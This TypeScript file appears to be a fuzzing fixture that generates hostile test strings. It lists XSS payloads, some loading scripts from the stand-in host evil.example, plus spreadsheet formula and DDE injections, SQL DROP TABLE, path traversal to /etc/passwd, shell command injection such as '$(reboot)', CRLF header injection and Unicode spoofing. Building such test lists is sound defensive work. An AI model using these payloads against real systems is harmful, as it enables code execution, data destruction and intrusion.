// Texts that somebody writes who means harm: to a browser, a spreadsheet, a terminal, a log or a reader's eyes.

/** What a browser must never run or build. `hit()` is counted, an element with `data-hostile` is found. */
const forBrowsers = [
  '<script>hit()</script>',
  '<script src=http://evil.example/x.js></script>',
  '<img src=x onerror=hit() data-hostile>',
  '"><img src=x onerror=hit() data-hostile>',
  "'><svg/onload=hit() data-hostile>",
  '<svg><script>hit()</script></svg>',
  '<b data-hostile>gras</b>',
  '</title><script>hit()</script>',
  '</textarea><img src=x onerror=hit() data-hostile>',
  '</style><script>hit()</script>',
  '</script><script>hit()</script>',
  '--><script>hit()</script><!--',
  ']]><script>hit()</script>',
  '<iframe srcdoc="<script>parent.hit()</script>" data-hostile></iframe>',
  '<iframe src=http://evil.example data-hostile></iframe>',
  '<a href=javascript:hit() data-hostile autofocus onfocus=hit()>x</a>',
  'javascript:hit()',
  'data:text/html,<script>hit()</script>',
  '<body onload=hit() data-hostile>',
  '<details open ontoggle=hit() data-hostile>',
  '<input autofocus onfocus=hit() data-hostile>',
  '<video><source onerror=hit() data-hostile></video>',
  '<object data=http://evil.example data-hostile></object>',
  '<embed src=http://evil.example data-hostile>',
  '<base href=http://evil.example data-hostile>',
  '<meta http-equiv=refresh content="0;url=http://evil.example" data-hostile>',
  '<link rel=stylesheet href=http://evil.example/x.css data-hostile>',
  '<style data-hostile>@import url(http://evil.example/x.css)</style>',
  '<form action=http://evil.example data-hostile><button>Voter</button></form>',
  '<img src=http://evil.example/pixel.png data-hostile>',
  '<math><mi xlink:href="javascript:hit()" data-hostile>x</mi></math>',
  '<template shadowrootmode=open><script>hit()</script></template>',
  '<style>*{background:url(http://evil.example)}</style>',
  '" onmouseover="hit()" data-hostile="',
  "' onmouseover='hit()' data-hostile='",
  '` onmouseover=hit() data-hostile=`',
  '&lt;script&gt;hit()&lt;/script&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '\\u003cscript\\u003ehit()\\u003c/script\\u003e',
  '%3Cscript%3Ehit()%3C/script%3E',
  '＜script＞hit()＜/script＞',
  '<scr<script>ipt>hit()</scr</script>ipt>',
  '<SCRIPT>hit()</SCRIPT>',
  '<script\n>hit()</script\n>',
  '{{constructor.constructor("hit()")()}}',
  '${hit()}',
  '#{hit()}',
  "'+hit()+'",
  '";hit();//',
  '{"__proto__":{"hostile":true}}',
  '__proto__',
  'constructor',
  'toString',
  '*/hit();/*',
  '{{count}} {name} %{x}',
  '[clic](javascript:hit())',
  '![x](http://evil.example/x.png)',
  'http://evil.example/',
];

/** What a spreadsheet might take for a formula, or for the end of a cell. */
const forSheets = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil.example","clic")',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd","/C calc","x")',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  '"=1+1',
  '";=1+1;"',
  '",=1+1,"',
  'x","=1+1',
  'x;=1+1',
  'x,=1+1',
  'x\n=1+1',
  'x\r\n=1+1',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '"',
  '""',
  '"""',
  ';',
  ',',
  '\\"',
  '%0A=1+1',
  '1E400',
  '01/02/2026',
  'TRUE',
  '#REF!',
];

/** What a terminal, a log, a file system or a database might obey. */
const forMachines = [
  '\x1b[31mrouge\x1b[0m',
  '\x1b]0;titre\x07',
  '\x1b[2J',
  '\x9b31m',
  'x\u0000y',
  '\u0000',
  'x\by',
  'x\u007fy',
  'x\u0085y',
  '{"at":1,"level":"info","fact":"stopped"}',
  'x\n{"at":1,"level":"info","fact":"stopped"}',
  "'; DROP TABLE boards; --",
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '$(reboot)',
  '`reboot`',
  '| reboot',
  '%s%s%n%x',
  'GET / HTTP/1.1\r\nHost: x\r\n\r\n',
  'x\r\nSet-Cookie: koudmen=x',
  'CON',
  'NaN',
  'null',
  'undefined',
  '-0',
];

/** What misleads the eye, or what no reader should meet. */
const forEyes = [
  '\u202Egnp.exe',
  'x\u202Ey\u202C',
  '\u2066x\u2069',
  '\u2067pour\u2069 contre',
  '\u200F-5',
  '\u200Ex',
  'שלום',
  'السلام عليكم 5',
  `Z${'\u0310\u0352\u035b'.repeat(12)}`,
  'a\u0301\u0301\u0301\u0301',
  'a\u0301\u0301\u0301\u0301\u0301',
  '\u0301seul',
  'x\u200by',
  'x\u2060y',
  'x\u00ady',
  'x\u034fy',
  '\ufeffx',
  '\ufffe',
  '\uffff',
  '\ufdd0',
  '\ue000',
  '\u{f0000}',
  '\u{e0041}',
  '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}',
  '👩‍👩‍👧‍👦',
  '🏳️‍🌈',
  '👍🏿',
  'x\u2028y',
  'x\u2029y',
  '\u3164',
  '\u115f',
  'аdmin',
  'Ａnimateur',
  'ｘ'.repeat(30),
  '𝕬𝖓𝖎𝖒𝖆𝖙𝖊𝖚𝖗',
  'ﷺ',
  '﷽'.repeat(20),
  'W'.repeat(40),
  'i'.repeat(40),
  'é'.normalize('NFD'),
  'x\n\n\n\n\ny',
  ' ',
  '',
  '\ud800',
  'x\udfffy',
  '\udc00\ud800',
];

/** A generator of the numbers that a seed makes. */
const seeded = (seed: number) => {
  let state = seed;
  return (below: number): number => {
    state = (Math.imul(state, 1_664_525) + 1_013_904_223) >>> 0;
    return (state >>> 8) % below;
  };
};

/** So many: each of those above, then what the seed makes of them. */
export const hostileStrings = (count: number, seed: number): readonly string[] => {
  const known = [...forBrowsers, ...forSheets, ...forMachines, ...forEyes];
  const random = seeded(seed);
  const one = (): string => known[random(known.length)] ?? '';
  const mixed = (): string => {
    const text = one();
    const at = random(text.length + 1);
    switch (random(6)) {
      case 0:
        return `${text} ${one()}`;
      case 1:
        return text.slice(0, at) + one() + text.slice(at);
      case 2:
        return text.slice(0, at) + String.fromCharCode(random(0x3000)) + text.slice(at);
      case 3:
        return `${one()}\n${text}`;
      case 4:
        return `'"><${text}`;
      default:
        return text.toUpperCase() + one().slice(0, 9);
    }
  };
  return Array.from({ length: count }, (_, at) => known[at] ?? mixed());
};
